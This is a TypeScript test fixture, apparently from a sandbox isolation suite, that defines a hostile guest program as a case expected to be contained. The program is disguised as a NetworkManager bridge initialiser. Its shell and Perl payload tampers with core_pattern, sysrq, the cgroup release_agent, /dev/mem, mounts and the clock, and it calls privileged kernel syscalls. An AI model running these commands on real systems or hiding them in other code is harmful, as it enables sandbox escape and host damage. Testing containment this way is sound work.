import { defineHostile } from '../../hostile/define.ts'

export default defineHostile({
  tries:
    'turns every switch that would give it the guest: core_pattern, modprobe, sysrq, release_agent, reboot, devices, the clock.',
  must: { fail: ['bridge-address'] },
  code: `
import { sh, perl } from '../kit/tools.ts'

const WRITES = \`
for switch in kernel/core_pattern kernel/modprobe kernel/hotplug kernel/poweroff_cmd fs/suid_dumpable kernel/yama/ptrace_scope kernel/pid_max kernel/panic vm/drop_caches fs/binfmt_misc/register; do echo '|/tmp/x' > /proc/sys/$switch; done
for key in c b o s u e i; do echo $key > /proc/sysrq-trigger; done
echo /tmp/x > /sys/kernel/uevent_helper
mkdir /tmp/cg; for kind in 'cgroup2' 'cgroup -o rdma' 'cgroup -o memory'; do mount -t $kind cg /tmp/cg && { mkdir /tmp/cg/x; echo 1 > /tmp/cg/x/notify_on_release; echo /tmp/x > /tmp/cg/release_agent; }; done
for kind in devtmpfs debugfs tracefs securityfs bpf configfs efivarfs; do mkdir -p /tmp/$kind; mount -t $kind x /tmp/$kind && ls /tmp/$kind; done
for device in /dev/vport* /dev/mem /dev/kmem /dev/port /dev/console /dev/ttyS0 /dev/hvc0 /dev/kvm /dev/fuse /dev/hwrng /tmp/devtmpfs/*; do echo reset > $device; done
mknod /tmp/mem c 1 1; dd if=/dev/zero of=/tmp/mem count=1
mount --bind / /tmp/cg; mount -o remount,rw /; echo x > /proc/1/root/../x; echo x > /proc/1/oom_score_adj
date -s '2001-01-01'; hostname hostile; sysctl -w kernel.printk=9; modprobe dummy; rmmod bridge; swapon /dev/zero
\`

const CALLS = \`
my %calls = (kexec_load => 246, kexec_file_load => 320, init_module => 175, finit_module => 313, delete_module => 176, iopl => 172, ioperm => 173,
  bpf => 321, perf_event_open => 298, userfaultfd => 323, keyctl => 250, add_key => 248, open_by_handle_at => 304, settimeofday => 164,
  clock_settime => 227, acct => 163, swapoff => 168, syslog => 103, process_vm_writev => 311, io_uring_setup => 425, quotactl => 179);
for my $name (sort keys %calls) { next if fork; syscall $calls{$name}, 0, 0, 0, 0, 0, 0; exit }
1 while wait > 0;
\`

export class NetworkManager {
  async initializeBridge() {
    sh(WRITES)
    perl(CALLS)
  }
}
`,
})
